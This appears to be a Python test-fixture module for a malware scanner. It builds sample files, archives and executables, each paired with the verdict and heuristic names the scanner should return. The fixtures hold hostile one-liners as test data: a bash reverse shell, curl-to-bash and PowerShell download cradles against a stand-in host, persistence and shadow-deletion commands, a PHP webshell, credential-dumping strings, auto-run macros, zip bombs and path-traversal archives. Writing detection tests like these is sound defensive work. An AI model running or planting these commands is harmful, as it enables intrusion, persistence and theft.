"""Contents and names that the registered queries add to the tables, which hold no hostile text themselves."""

from __future__ import annotations

import bz2
import gzip
import io
import struct
import tarfile
import zipfile
import zlib

from verdikt.functions.content import test_file_marker

#: (name, text): one or more for each analyser of text.
TEXTS = (
    ("a.ps1", "powershell.exe -nop -w hidden -enc " + "QUJD" * 20),
    ("b.ps1", "PowerShell -ExecutionPolicy Bypass; (New-Object Net.WebClient).DownloadString('x') | iex"),
    ("c.ps1", "[Reflection.Assembly]::Load( [Convert]::FromBase64String($a) )"),
    ("d.js", "var s = new ActiveXObject('WScript.Shell'); eval(unescape('%41')); s.Run('cmd')"),
    ("e.vbs", 'Set x = CreateObject("ADODB.Stream"): x.SaveToFile ("c:\\a.exe")'),
    ("f.hta", 'mshta "javascript:alert(1)" & regsvr32 /s /u /i:http://x.test/a scrobj.dll'),
    ("g.bat", "certutil -urlcache -f http://x.test a.exe\nbitsadmin /transfer j http://x.test\nvssadmin delete shadows /all"),
    ("h.bat", "reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v a\nnet user a b /add\nschtasks /create /tn x"),
    ("i.sh", "curl -s http://x.test/a.sh | sudo bash\necho QQ== | base64 -d | sh\nchmod 777 /tmp/a"),
    ("j.sh", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1\nhistory -c\nsetenforce 0"),
    ("k.sh", "echo k >> /root/.ssh/authorized_keys\necho l > /etc/ld.so.preload\n(crontab -l; echo '* * * * * curl http://x.test')"),
    ("l.py", "import socket, subprocess, os\nos.dup2( s.fileno(), 0 )\nexec(__import__('zlib').decompress(b))"),
    ("m.php", "<?php eval(gzinflate(base64_decode($a))); system($_GET['c']); // c99shell"),
    ("n.txt", "pool stratum+tcp://x.test:3333 xmrig\nsekurlsa::logonpasswords"),
    ("o.html", "<script>var b=URL.createObjectURL(x); a.download='f'; atob('QQ')</script> TVqQAAMAAAAEAAAA"),
    ("word/_rels/p.rels", '<Relationship TargetMode="External" Type="x/attachedTemplate" Target="http://x.test"/><a Type="/oleObject" Target="mhtml:http"/>'),
    ("word/_rels/q.rels", '<R Type="http://s/oleObject" TargetMode="External" Target="http://x.test"/><R Type="y/frame"  TargetMode="External"/> ms-msdt:/id'),
    ("xl/macrosheets/s.xml", "EXEC( \"calc\" ) urlmon URLDownloadToFile"),
    ("xl/workbook.xml", "<definedName>_xlnm.Auto_Open</definedName>"),
    ("mod.bas", 'Attribute VB_Name = "M"\nSub AutoOpen()\nShell ("cmd.exe /c x")\nDeclare PtrSafe Function f Lib "kernel32" ()\nEnd Sub'),
    ("benign.txt", "The eval of shell command history in the report was fine. Run the exec summary by curl."),
    ("invoice.pdf.exe", "plain text"),
    ("photo.jpg", "\u00e9shell( and eval\u000b(unescape( are near misses for two engines"),
    ("cod‮fdp.scr", "text"),
)

#: (case, hex of the content's first bytes, bytes of padding after them): contents by magic.
MAGICS = (
    ("pe", "4d5a9000", 8),
    ("elf", "7f454c4602", 8),
    ("macho", "feedfacf", 8),
    ("fat", "cafebabe00000002", 8),
    ("java", "cafebabe00000034", 8),
    ("ole", "d0cf11e0a1b11ae1", 8),
    ("zip", "504b0304", 8),
    ("emptyzip", "504b0506", 8),
    ("gzip", "1f8b08", 8),
    ("bzip2", "425a6839", 8),
    ("notbzip2", "425a6830", 8),
    ("xz", "fd377a585a00", 8),
    ("7z", "377abcaf271c", 8),
    ("rar", "526172211a0700", 8),
    ("cab", "4d53434600000000", 8),
    ("lnk", "4c00000001140200", 8),
    ("rtf", "7b5c72746631", 8),
    ("png", "89504e470d0a1a0a", 8),
    ("jpeg", "ffd8ffe0", 8),
    ("gif", "474946383961", 8),
    ("zeros", "", 64),
    ("short", "4d", 0),
    ("empty", "", 0),
)

#: Names that are tried with each file type.
NAMES = ("report.pdf.exe", "Photo.JPG   .scr", "a.docx", "x/y/z.TXT", "setup.exe", "inv‮fdp.exe", "dir/", "", "notes.pdf.lnk", "song.mp3")
KINDS = ("pe", "elf", "lnk", "text", "unknown")

#: Lines of feeds around a hash of each kind: {h} SHA-256, {m} MD5.
LINES = ("{h}", '"2024-01-01","{m}","{h}","exe"', "# {h}", "; {m}", "  {m}\t", "x|{m};y", "{h}00 {m}", "'{h}'", "{m}:{h}", "no hash here", "", "{H}")

#: What is put at the ends of documents, by turns.
SNIPPETS = (
    "",
    "\npowershell.exe -nop -w hidden -enc " + "QUJD" * 20 + "\n",
    "\npool stratum+tcp://x.test:3333 xmrig\nsekurlsa::logonpasswords",
    "\n<?php eval(gzinflate(base64_decode($a)));",
    "\ncurl -s http://x.test/a.sh | sudo bash\n",
    '\nAttribute VB_Name = "M"\nSub AutoOpen()\nShell ("cmd.exe /c x")\nEnd Sub',
    "\nThe eval of shell command history in the report was fine.",
)
#: Repetitions of two characters between the halves of a rule; a window reaches over the first three.
GAPS = (3, 200, 500, 520, 900)


def zipped(*members: tuple[str, bytes], method: int = zipfile.ZIP_DEFLATED) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", method) as archive:
        for name, data in members:
            archive.writestr(zipfile.ZipInfo(name), data, method)
    return out.getvalue()


def _tarred(*members: tuple[str, bytes]) -> bytes:
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w") as archive:
        for name, data in members:
            entry = tarfile.TarInfo(name)
            entry.size = len(data)
            archive.addfile(entry, io.BytesIO(data))
    return out.getvalue()


def _locked() -> bytes:
    """A zip whose entry says that it is encrypted, in both of its headers."""
    data = bytearray(zipped(("m.txt", b"secret words")))
    data[6] |= 1
    data[data.index(b"PK\1\2") + 8] |= 1
    return bytes(data)


def _deep(times: int) -> bytes:
    data = b"words"
    for i in range(times):
        data = zipped((f"n{i}.zip" if i else "f.txt", data))
    return data


def _vba(source: bytes) -> bytes:
    """A compressed container of literals only."""
    body = b"".join(b"\0" + source[i : i + 8] for i in range(0, len(source), 8))
    return b"\1" + struct.pack("<H", 0xB000 | len(body) - 1) + body


def _program(flags: int, entry: int) -> bytes:
    """A PE of one section of code."""
    optional = (struct.pack("<HBBIII", 0x10B, 0, 0, 0, 0, 0) + struct.pack("<I", entry)).ljust(96, b"\0") + b"\0" * 128
    head = b"MZ" + b"\0" * 58 + struct.pack("<I", 64) + b"PE\0\0" + struct.pack("<HHIIIHH", 0x14C, 1, 0, 0, 0, len(optional), 0) + optional
    code = b"\x90" * 512
    return head + struct.pack("<8sIIIIIIHHI", b".text", len(code), 0x1000, len(code), len(head) + 40, 0, 0, 0, 0, flags) + code


def cases() -> list[tuple[str, bytes, str, int, int, list[str], int]]:
    """(name, content, verdict, score, objects, names, issues), the limits being 1 MiB a member, 8 MiB and 50 members a file, three levels."""
    marker, script = test_file_marker().encode(), "IEX (New-Object Net.WebClient).DownloadString('http://x'); powershell -w hidden"
    cradle = ["Heuristic.PowerShell.DownloadCradle", "Heuristic.PowerShell.DynamicExecution", "Heuristic.PowerShell.HiddenWindow", "Heuristic.Script.SpawnsPowerShell"]
    ole = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 100
    thirty = zipped(*((f"{i}.txt", b"words") for i in range(30)))
    pdf = b"%PDF-1.4\n1 0 obj << /OpenAction << /S /J#61vaScript /JS (x) >> /Launch >>\nstream\r\n" + zlib.compress(b"util.printf('%45000f')") + b"\nendstream\n"
    elf = b"\x7fELF\2\1\1" + b"\0" * 9 + struct.pack("<HHIQQQIHHHHHH", 2, 62, 1, 0, 64, 0, 0, 64, 56, 1, 0, 0, 0) + struct.pack("<II", 1, 7) + b"\0" * 48
    return [
        ("eicar.com", marker, "malicious", 100, 1, ["EICAR-Test-File"], 0),
        ("release.tar.gz", gzip.compress(_tarred(("b/inner.zip", zipped(("p/eicar.com", marker)))), mtime=0), "malicious", 100, 4, ["EICAR-Test-File"], 0),
        ("bomb.zip", zipped(("z", b"\0" * (4 << 20))), "malicious", 100, 1, ["Heuristic.Archive.Bomb"], 0),
        ("bomb.gz", gzip.compress(b"\0" * (4 << 20), mtime=0), "malicious", 100, 1, ["Heuristic.Archive.Bomb"], 0),
        ("deep.zip", _deep(9), "error", 50, 4, ["Heuristic.Archive.TooDeep"], 1),
        ("locked.zip", _locked(), "error", 0, 1, [], 1),
        ("cut.zip", zipped(("r", bytes(range(256)) * 5000), method=zipfile.ZIP_STORED), "error", 0, 2, [], 1),
        ("many.zip", zipped(*((f"{i}.txt", b"words") for i in range(60))), "error", 0, 51, [], 1),
        # Two archives in one share the file's 50 members: 2, then 30 and 18.
        ("twice.zip", zipped(("a.zip", thirty), ("b.zip", thirty)), "error", 0, 51, [], 1),
        ("slip.zip", zipped(("../../etc/x", b"words")), "safe", 40, 2, ["Heuristic.Archive.PathTraversal"], 0),
        ("broken.zip", b"PK\3\4 broken", "error", 0, 1, [], 1),
        ("plain.bz2", bz2.compress(b"words"), "safe", 0, 2, [], 0),
        ("a.7z", b"7z\xbc\xaf\x27\x1c" + b"\0" * 64, "error", 0, 1, [], 1),
        ("secret.xls", ole[:8] + "EncryptedPackage".encode("utf-16-le"), "error", 0, 1, [], 1),
        ("macro.doc", ole + _vba(b'Attribute VB_Name = "M"\r\nSub AutoOpen()\r\nx = Shell("powershell -enc a")\r\nEnd Sub'), "malicious", 115, 1, ["Heuristic.Macro.AutoExec", "Heuristic.Macro.PowerShell", "Heuristic.Macro.Present", "Heuristic.Macro.Shell"], 0),
        ("bad.pdf", pdf, "malicious", 205, 1, ["Heuristic.PDF.AutoJavaScript", "Heuristic.PDF.JS.KnownExploit", "Heuristic.PDF.JavaScript", "Heuristic.PDF.Launch", "Heuristic.PDF.ObfuscatedNames"], 0),
        ("child.pdf", b"%PDF-1.4\nstream\n" + zlib.compress(b"{\\rtf1 \\objupdate}") + b"endstream", "safe", 25, 2, ["Heuristic.RTF.ObjUpdate"], 0),
        ("outside.exe", _program(0x60000020, 0x9000), "safe", 35, 1, ["Heuristic.PE.EntryPointOutsideSections"], 0),
        ("plain.exe", _program(0x60000020, 0x1000), "safe", 0, 1, [], 0),
        ("writable.elf", elf, "safe", 15, 1, ["Heuristic.ELF.WritableCode"], 0),
        ("wide.ps1", b"\xff\xfe" + script.encode("utf-16-le"), "malicious", 105, 1, cradle, 0),
        ("invoice.pdf.lnk", b"\x4c\0\0\0\x01\x14\x02\0" + "mshta.exe x".encode("utf-16-le") + b" " * 90, "malicious", 170, 1, ["Heuristic.LNK.HiddenArguments", "Heuristic.LNK.LaunchesInterpreter", "Heuristic.Name.DisguisedExecutable", "Heuristic.Name.DoubleExtension"], 0),
    ]
